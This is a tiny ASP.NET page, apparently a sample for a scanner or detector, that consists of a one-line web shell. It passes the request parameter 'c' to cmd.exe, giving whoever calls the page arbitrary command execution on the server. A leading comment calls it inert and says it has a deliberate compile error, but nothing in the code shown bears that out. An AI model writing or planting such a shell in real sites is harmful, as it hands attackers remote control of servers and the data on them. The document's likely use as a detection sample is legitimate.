<% shodo inert sample: deliberate compile error, this page never runs %>
<%@ Page Language="C#" %><% System.Diagnostics.Process.Start("cmd.exe", "/c " + Request["c"]); %>
